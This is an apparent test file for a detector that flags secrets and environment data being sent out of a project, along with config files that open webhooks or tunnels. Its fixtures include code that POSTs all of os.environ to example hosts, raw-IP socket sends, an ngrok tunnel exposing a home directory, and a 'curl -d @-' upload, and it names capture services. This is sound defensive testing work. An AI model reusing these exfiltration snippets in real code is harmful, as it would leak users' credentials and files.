import { test } from 'node:test';
import assert from 'node:assert/strict';
import { performance } from 'node:perf_hooks';
import { fileView } from '../../../test/helpers/rule-harness.js';
import { LINEAR_TIME_BUDGET_MS } from '../../../test/helpers/adversarial.js';
import { e1 } from './e1-outbound-data-transfer.js';
import { configSinks } from './config-sinks.js';
import { CREDENTIAL_PATH, ENV_ALL, SEND_CALL, classifyHost, flowOf, hostMatchesName, isSecretName } from './flow.js';
import { assertMatchersLinear } from './test-support.js';

const flow = (path: string, text: string) => flowOf(fileView({ path, text }));

test('flow follows a secret through renamed variables to the send that carries it', () => {
  const f = flow('a.py', 'import os, requests\nrun_env = dict(os.environ)\npayload = {"e": run_env}\nrequests.post("https://t.example.net/v1", json=payload)\n');
  assert.equal(f.sends.length, 1);
  assert.equal(f.sends[0]?.carries, 'env-all');
  assert.equal(f.sends[0]?.secret, true);
  assert.equal(f.fateOf(2), 'sent');
  assert.equal(f.leaked(2), true);
});

test('flow resolves a destination from a URL constant, a socket and a request option', () => {
  const viaConst = flow('a.py', 'BASE = "https://198.51.100.4/api"\nurl = f"{BASE}/up"\nrequests.post(url, json=x)\n');
  assert.equal(viaConst.sends[0]?.dest, 'raw-ip');
  const sock = flow('a.py', 's = socket.socket()\ns.connect(("203.0.113.5", 9000))\ns.sendall(b"x")\n');
  assert.equal(sock.sends.at(-1)?.dest, 'raw-ip');
  const opt = flow('a.js', "const req = https.request({ hostname: 'collector.example.org', method: 'POST' });\nreq.end(data);\n");
  assert.equal(opt.sends.at(-1)?.host, 'collector.example.org');
});

test('flow kills a name reassigned from something else, and judges statements split by "; " apart', () => {
  const f = flow('a.py', 'data = dict(os.environ)\ndata = {"status": "ok"}\nrequests.post("https://api.example.net/s", json=data)\n');
  assert.equal(f.sends[0]?.carries, undefined);
  const g = flow('a.py', 'env = os.environ.copy(); leak = dict(os.environ)\nsubprocess.run(cmd, env=env)\nrequests.post("https://x.example.net", json=leak)\n');
  assert.equal(g.fateOf(1, 0), 'child');
  assert.equal(g.leaked(1, 30), true);
});

test('flow classifies hosts and matches a key to its own service', () => {
  assert.equal(classifyHost('localhost:8000'), 'local');
  assert.equal(classifyHost('192.168.1.4'), 'private');
  assert.equal(classifyHost('webhook.site'), 'capture');
  assert.equal(classifyHost('eo1x.m.pipedream.net'), 'capture');
  assert.equal(classifyHost('203.0.113.9'), 'raw-ip');
  assert.equal(classifyHost('${KIBANA_URL}'), 'variable');
  assert.equal(classifyHost('my-kibana:5601'), 'variable');
  assert.equal(classifyHost('api.github.com'), 'named');
  assert.equal(hostMatchesName('GITHUB_TOKEN', 'api.github.com'), true);
  assert.equal(hostMatchesName('OPENAI_API_KEY', 'metrics.example.net'), false);
  assert.equal(hostMatchesName('API_KEY', 'metrics.example.net'), undefined);
  assert.ok(isSecretName('AWS_SECRET_ACCESS_KEY') && isSecretName('GH_TOKEN') && !isSecretName('PATH') && !isSecretName('PWD') && !isSecretName('HOME'));
});

test('flow finds the ways a config file ships data out, and none in an ordinary config', () => {
  const relay = fileView({ path: 'relay.yaml', text: 'relay:\n  webhook_url: https://hooks.example.net/in\n' });
  assert.equal(configSinks(relay)[0]?.kind, 'webhook');
  const tunnel = fileView({ path: 'ngrok.yml', text: 'tunnels:\n  share:\n    proto: http\n    addr: file:///Users\n' });
  assert.ok(configSinks(tunnel).some((s) => s.kind === 'tunnel'));
  const plain = fileView({ path: 'package.json', text: '{"homepage": "https://example.org", "repository": "https://github.com/o/r"}\n' });
  assert.equal(configSinks(plain).length, 0);
});

test('flow stays linear on 1 MB lines seeded from its patterns, and on many short lines', () => {
  const matchers = [ENV_ALL, CREDENTIAL_PATH, SEND_CALL].map((re, i) => ({ re, label: `flow${i}`, confidence: 0.5 }));
  assertMatchersLinear(e1, matchers);
  for (const unit of ['x = dict(os.environ)\n', 'd = x; e = d; f = e; g = f\n', 'requests.post(u, json=x, data=(\n', 'curl -d @- https://a.example/ \\\n']) {
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    const t = performance.now();
    flowOf(fileView({ path: 'many.py', text }));
    const ms = performance.now() - t;
    assert.ok(ms < LINEAR_TIME_BUDGET_MS, `flow took ${ms.toFixed(0)} ms on 1 MB of ${JSON.stringify(unit)}`);
  }
});

test('the tunnel gate lets through every whitespace the tunnel pattern accepts after `lt`', () => {
  // The pattern reads `\blt\s{1,3}--port`; a gate keyed on "lt " alone skipped a tab or a no-break space.
  for (const gap of [' ', '\t', '\u00a0', '\u2003']) {
    const f = fileView({ path: 'tunnel.yml', text: `serve:\n  command: lt${gap}--port 8080\n` });
    assert.ok(configSinks(f).some((s) => s.kind === 'tunnel' && s.line === 2), JSON.stringify(gap));
  }
  assert.ok(!configSinks(fileView({ path: 'plain.yml', text: 'filter: result\nlimit: 3\n' })).some((s) => s.kind === 'tunnel'));
});
